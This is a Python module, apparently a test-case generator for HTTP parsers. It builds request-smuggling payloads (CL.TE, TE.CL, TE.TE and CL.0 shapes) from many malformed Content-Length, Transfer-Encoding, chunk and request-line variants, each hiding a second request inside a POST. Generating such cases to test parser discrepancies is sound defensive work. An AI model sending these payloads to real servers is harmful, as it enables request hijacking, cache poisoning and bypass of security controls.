"""Bytes that two parsers may read as another number of requests: the known families, multiplied.

PortSwigger's CL.TE, TE.CL, TE.TE and CL.0, the header spellings of http-request-smuggler, chunks as in
llhttp's and gunicorn's advisories (CVE-2022-35256, CVE-2023-30589, CVE-2024-1135, CVE-2024-6827).
"""

from collections.abc import Iterator

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: evil\r\nX-Evil: 1\r\n\r\n"
_POST = b"POST /outer HTTP/1.1\r\nHost: shop\r\n"
_END = b"GET /end HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"

_LENGTHS = [
    b"Content-Length: %d\r\n", b"Content-Length:%d\r\n", b"Content-Length : %d\r\n", b"Content-Length: +%d\r\n",
    b"Content-Length: 0%d\r\n", b"Content-Length: %d, %d\r\n", b"Content-Length: %d\r\nContent-Length: 0\r\n",
    b"Content-Length: 0\r\nContent-Length: %d\r\n", b"Content-Length: %d\r\nContent-Length: %d\r\n",
    b" Content-Length: %d\r\n", b"X: y\r\n Content-Length: %d\r\n", b"Content-Length:\r\n %d\r\n",
    b"Content-Length: %d\n", b"X: y\nContent-Length: %d\r\n", b"X: y\rContent-Length: %d\r\n",
    b"Content_Length: %d\r\n", b"Content-Length\0: %d\r\n", b"Content-Length: %d\0\r\n", b"Content-Length: 0x%x\r\n",
    b"Content-Length: -%d\r\n", b"Content-Length: %d.0\r\n", b"Content-Length: \x0b%d\r\n", b"Content-Length:\t%d\t\r\n",
    b"Content-Length: 1844674407370955161%d\r\n", b"\xefContent-Length: %d\r\n", b"",
]  # fmt: skip

_CODINGS = [
    b"Transfer-Encoding: chunked\r\n", b"Transfer-Encoding:chunked\r\n", b"Transfer-Encoding : chunked\r\n",
    b"Transfer-Encoding: xchunked\r\n", b"Transfer-Encoding: Chunked\r\n", b"Transfer-Encoding: chunked \r\n",
    b"Transfer-Encoding:\tchunked\r\n", b"Transfer-Encoding: \x0bchunked\r\n", b"Transfer-Encoding: chunked\0\r\n",
    b"Transfer-Encoding: \"chunked\"\r\n", b"Transfer-Encoding: chunked;q=1\r\n", b"Transfer-Encoding: chunked,\r\n",
    b"Transfer-Encoding: ,chunked\r\n", b"Transfer-Encoding: identity\r\n", b"Transfer-Encoding: identity, chunked\r\n",
    b"Transfer-Encoding: chunked, identity\r\n", b"Transfer-Encoding: chunked, chunked\r\n",
    b"Transfer-Encoding: gzip, chunked\r\n", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n", b"Transfer-Encoding\r\n : chunked\r\n",
    b"Transfer-Encoding:\r\n chunked\r\n", b" Transfer-Encoding: chunked\r\n", b"X: y\r\n Transfer-Encoding: chunked\r\n",
    b"X: y\nTransfer-Encoding: chunked\r\n", b"X: y\rTransfer-Encoding: chunked\r\n", b"Transfer_Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\n", b"Transfer-Encoding: chu\xeeked\r\n", b"Transfer-Encoding: \xffchunked\r\n",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked\r\n",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
]  # fmt: skip

_CHUNKS = [
    b"%x\r\n%b\r\n0\r\n\r\n", b"%x;ext\r\n%b\r\n0\r\n\r\n", b"%x ;ext\r\n%b\r\n0\r\n\r\n", b"%x \r\n%b\r\n0\r\n\r\n",
    b"0%x\r\n%b\r\n0\r\n\r\n", b"0x%x\r\n%b\r\n0\r\n\r\n", b"+%x\r\n%b\r\n0\r\n\r\n", b"-%x\r\n%b\r\n0\r\n\r\n",
    b"%x\n%b\n0\n\n", b"%x\r\n%b0\r\n\r\n", b"%x\r\n%bXX0\r\n\r\n", b"%x\r\n%b\r\n00\r\n\r\n",
    b"%x\r\n%b\r\n0\r\nX: y\r\n\r\n", b"%x\r\n%b\r\n0\r\nContent-Length: 9\r\n\r\n", b"%x\r\n%b\r\n0\r\n", b"%x\r\n%b\r\n0\n\n",
    b"%x;a=\"\r\n\"\r\n%b\r\n0\r\n\r\n", b"%x;\n%b\r\n0\r\n\r\n", b"%x\r%b\r\n0\r\n\r\n", b"1000000000000000%x\r\n%b\r\n0\r\n\r\n",
    b"%x_0\r\n%b\r\n0\r\n\r\n", b"\r\n%x\r\n%b\r\n0\r\n\r\n", b"%x,\r\n%b\r\n0\r\n\r\n", b"%x\0\r\n%b\r\n0\r\n\r\n",
]  # fmt: skip

_LINES = [
    b"POST /outer HTTP/1.0\r\nHost: shop\r\n", b"POST /outer HTTP/1.1\r\nHost: shop\r\nHost: evil\r\n",
    b"POST /outer HTTP/1.1 \r\nHost: shop\r\n", b"POST  /outer HTTP/1.1\r\nHost: shop\r\n",
    b"POST /outer HTTP/1.1\r\n Host: shop\r\n", b"POST /outer HTTP/1.1\nHost: shop\r\n", b"\r\nPOST /outer HTTP/1.1\r\nHost: shop\r\n",
    b"POST /outer HTTP/2.0\r\nHost: shop\r\n", b"POST /outer\r\nHost: shop\r\n", b"POST /out er HTTP/1.1\r\nHost: shop\r\n",
    b"POST http://evil/outer HTTP/1.1\r\nHost: shop\r\n", b"POST /outer HTTP/1.1\r\nHost: shop\r\nExpect: 100-continue\r\n",
    b"POST /outer HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n", b"GET /outer HTTP/1.1\r\nHost: shop\r\n",
    b"HEAD /outer HTTP/1.1\r\nHost: shop\r\n", b"OPTIONS * HTTP/1.1\r\nHost: shop\r\n",
    b"POST /outer HTTP/1.1\r\nHost: shop\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n",
]  # fmt: skip


def shapes() -> Iterator[bytes]:
    """Each as one connection's bytes, with an honest request at the end."""
    chunked = _chunked(_CHUNKS[0])
    for length in _LENGTHS:
        yield _POST + _sized(length, len(SMUGGLED)) + b"\r\n" + SMUGGLED + _END
        yield _POST + _sized(length, 0) + b"\r\n" + SMUGGLED + _END
        for coding in (_CODINGS[0], _CODINGS[2], _CODINGS[3]):
            yield _POST + _sized(length, len(chunked)) + coding + b"\r\n" + chunked + _END
    for coding in _CODINGS:
        yield _POST + coding + b"\r\n" + chunked + _END
        yield _POST + b"Content-Length: 4\r\n" + coding + b"\r\n" + chunked + _END
        yield _POST + coding + b"Content-Length: %d\r\n\r\n" % len(chunked) + chunked + _END
    for template in _CHUNKS:
        yield _POST + _CODINGS[0] + b"\r\n" + _chunked(template) + _END
        yield _POST + _CODINGS[0] + b"\r\n" + _chunked(template) + SMUGGLED + _END
    for line in _LINES:
        yield line + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED + _END
        yield line + _CODINGS[0] + b"\r\n" + chunked + _END
        yield line + b"\r\n" + SMUGGLED + _END


def _sized(template: bytes, size: int) -> bytes:
    return template % ((size,) * template.count(b"%"))


def _chunked(template: bytes) -> bytes:
    return template % (len(SMUGGLED), SMUGGLED)
